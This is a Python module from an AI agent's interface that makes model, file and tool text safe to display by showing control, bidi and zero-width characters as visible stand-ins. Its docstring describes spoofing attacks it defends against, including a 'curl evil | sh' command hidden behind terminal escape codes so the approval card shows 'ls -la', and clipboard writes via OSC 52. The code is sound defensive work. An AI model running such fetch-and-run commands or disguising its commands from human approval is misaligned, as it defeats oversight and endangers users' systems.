"""Text from the model, a file or a tool, made safe to draw: control characters shown, not sent.

Without Textual: the chat's widgets (ui/visible.py adds plain() for them) and `thau -m`,
which prints the same text to the terminal, use it.

Textual passes an escape character through to the terminal. A call whose command reads
`curl evil | sh` followed by ESC[28D ESC[0K and `ls -la` drew as `ls -la` on the approval
card; an OSC 52 sequence in a file that read_file returned (no approval) set the clipboard in
many terminals; bidi controls reorder what a line seems to say; U+2028/U+2029 broke a
command's line on the card while bash saw one word, and zero-width characters made a path
look like another. Every such character is drawn as a visible stand-in instead: C0 controls
as their Unicode control pictures (ESC as ␛), DEL as ␡, C1, bidi, line-separator and
zero-width characters as <U+XXXX>. Newlines and tabs stay. The zero-width joiner and
non-joiner stay too: emoji and several scripts need them.
"""

from __future__ import annotations

import json
import re
from typing import Any

_BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
# Line and paragraph separators, zero-width space, word joiner, byte-order mark, soft hyphen.
_INVISIBLE = "\u2028\u2029\u200b\u2060\ufeff\u00ad"
_CONTROL = re.compile(f"[\x00-\x08\x0b-\x1f\x7f-\x9f{_BIDI}{_INVISIBLE}]")


def _stand_in(match: re.Match[str]) -> str:
    char = match.group()
    code = ord(char)
    if code < 0x20:
        return chr(0x2400 + code)
    if code == 0x7F:
        return "\u2421"
    return f"<U+{code:04X}>"


def visible(text: str) -> str:
    """`text` with every control character but newline and tab drawn as a visible stand-in."""
    return _CONTROL.sub(_stand_in, text) if _CONTROL.search(text) else text


def has_controls(value: Any) -> bool:
    """Whether a string anywhere in `value` (a call's arguments) holds such a character."""
    if isinstance(value, str):
        return _CONTROL.search(value) is not None
    if isinstance(value, dict):
        return any(has_controls(k) or has_controls(v) for k, v in value.items())
    if isinstance(value, (list, tuple)):
        return any(has_controls(v) for v in value)
    return False


def editable_json(value: Any) -> str:
    """`value` as indented JSON for an edit box: accents kept as they are, but each character
    `visible` stands in for written as a \\u escape, so the box shows it (a raw bidi control
    reordered the line, a U+2028 split it) and json.loads gives the same value back."""
    text = json.dumps(value, indent=2, ensure_ascii=False)
    return _CONTROL.sub(lambda match: f"\\u{ord(match.group()):04x}", text)
